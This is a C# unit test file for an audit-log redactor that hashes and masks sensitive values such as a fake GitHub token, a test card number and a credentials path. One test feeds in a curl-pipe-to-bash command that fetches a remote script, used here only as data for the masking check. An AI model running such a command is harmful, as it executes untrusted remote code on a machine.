using Palisade.Core.Redaction;

namespace Palisade.Tests.Redaction;

/// <summary>
/// Evidence is written to audit logs and compared across records, so its format is a contract: golden vectors
/// (HMAC-SHA256 over UTF-8, computed independently) pin it whatever the implementation does to be fast.
/// </summary>
public sealed class EvidenceRedactorTests
{
    private static readonly EvidenceRedactor Redactor = new(Enumerable.Range(0, 32).Select(i => (byte)i).ToArray());

    [Theory]
    [InlineData("~/.aws/credentials", "b45c6b1b0212")]
    [InlineData("café-naïve-ünïcödé-valüe", "0ac9e8534cd3")]
    public void Hash_is_the_first_twelve_hex_digits_of_hmac_sha256_over_utf8(string value, string expected)
    {
        Assert.Equal(expected, Redactor.Hash(value));
    }

    [Fact]
    public void A_lone_surrogate_is_hashed_as_the_replacement_character_utf8_gives_it()
    {
        Assert.Equal("94d844ffbe54", Redactor.Hash("abc" + (char)0xD800 + "def"));
    }

    [Fact]
    public void A_value_too_long_for_the_stack_buffer_hashes_the_same_way()
    {
        Assert.Equal("34653ed8c385", Redactor.Hash(new string('x', 600)));
    }

    [Theory]
    [InlineData("ghp_0123456789abcdefghijklmnopqrstuvwxyzAB", "ghp_…[42 chars, h:befcb51b5182]")]
    [InlineData("4111111111111111", "41…[16 chars, h:062224120138]")]
    public void Mask_shows_a_few_leading_characters_the_length_and_the_hash(string value, string expected)
    {
        Assert.Equal(expected, Redactor.Mask(value));
    }

    [Fact]
    public void Excerpt_keeps_short_words_and_masks_long_tokens()
    {
        Assert.Equal("pipe: curl -fsSL http://2…[18 chars, h:b58a689946d7] | bash -s", Redactor.Excerpt("pipe: curl -fsSL http://203.0.113.9/x.sh | bash -s", 120));
    }

    [Fact]
    public void Excerpt_is_shortened_and_control_characters_become_spaces()
    {
        Assert.Equal("a b c…", Redactor.Excerpt("a\tb\nc d e f", 5));
    }

    [Fact]
    public void Hashes_computed_on_many_threads_at_once_agree()
    {
        var results = new string[64];
        Parallel.For(0, results.Length, i => results[i] = Redactor.Hash("~/.aws/credentials"));
        Assert.All(results, r => Assert.Equal("b45c6b1b0212", r));
    }

    [Fact]
    public void A_short_key_is_refused()
    {
        Assert.Throws<ArgumentException>(() => new EvidenceRedactor(new byte[8]));
    }
}
